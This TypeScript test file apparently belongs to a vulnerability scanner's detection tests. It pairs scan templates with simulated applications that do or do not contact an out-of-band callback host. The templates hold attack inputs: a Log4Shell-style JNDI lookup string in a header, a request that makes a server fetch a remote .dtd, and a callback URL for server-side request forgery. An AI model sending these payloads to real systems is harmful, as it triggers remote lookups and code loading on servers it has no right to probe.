import { applicationSite } from "../../../../support/scan-sites/application-site.ts";
import { oobDomain, type Outside } from "../../../../support/scan-sites/outside.ts";
import type { Answer, SeenRequest } from "../../../../unit/engines/scan/key-cases/http-site.ts";
import type { Site } from "../../../../unit/engines/scan/key-cases/sites.ts";
import { blockText, templateText } from "../../../../unit/engines/scan/key-cases/template-text.ts";
import type { CorpusCase } from "./corpus-case.ts";

const urls = new RegExp(`[a-z0-9]+\\.${oobDomain.replaceAll(".", "\\.")}[^\\s"'}]*`);
const urlIn = (text: unknown): string => urls.exec(String(text))?.[0] ?? "";

/** Contacts the url that it is sent, in the way given. */
const contacting = (act: (outside: Outside, url: string, request: SeenRequest) => Promise<unknown>): Site =>
  applicationSite(async (request, outside): Promise<Answer> => {
    const url = urlIn(`${request.path} ${JSON.stringify(request.headers)} ${request.body}`);
    if (url !== "") await act(outside, url, request);
    return "ok";
  });
const host = (url: string): string => url.replace(/\/.*/, "");
const silent = contacting(() => Promise.resolve());

/** Applications that contact others because they were told to. */
export const interactionCases: readonly CorpusCase[] = [
  {
    name: "a lookup of a name in a header",
    template: blockText(
      "http",
      `path: ["{{BaseURL}}"]
headers: {X-Api-Version: "$" + "x"}
matchers-condition: and
matchers:
  - {type: word, part: interactsh_protocol, words: [dns]}
  - {type: regex, part: interactsh_request, regex: ['(?i)uname-[a-z]+\\.']}`.replace(
        '"$" + "x"',
        "'${jndi:ldap://uname-host.{{interactsh-url}}/a}'",
      ),
    ),
    positive: contacting((outside, url, { headers }) => {
      const [, prefix = ""] = /(uname-\w+\.)/.exec(String(headers["x-api-version"])) ?? [];
      return outside.lookUp(prefix + host(url).replace(prefix, ""));
    }),
    nearMiss: contacting((outside, url) => outside.lookUp(host(url).replace(/^uname-\w+\./, ""))),
  },
  {
    name: "a document that is fetched from elsewhere, with its path",
    template: templateText(`variables: {file: "{{rand_text_alpha(6)}}"}
http:
  - raw:
      - |
        POST /import HTTP/1.1
        Host: {{Hostname}}
        Content-Type: application/json

        {"url": "http://{{interactsh-url}}/{{file}}.dtd"}
    matchers-condition: and
    matchers:
      - {type: word, part: interactsh_protocol, words: [http]}
      - {type: word, part: interactsh_request, words: ["{{file}}.dtd"]}
      - {type: status, status: [200]}`),
    positive: contacting((outside, url) => outside.fetch(url)),
    nearMiss: contacting((outside, url) => outside.fetch(host(url))),
  },
  {
    name: "a contact by any protocol",
    template: blockText(
      "http",
      `path: ["{{BaseURL}}?callback=http://{{interactsh-url}}"]
matchers:
  - {type: word, part: interactsh_protocol, words: [http, smtp]}`,
    ),
    positive: contacting((outside, url) => outside.fetch(host(url))),
    nearMiss: silent,
  },
];
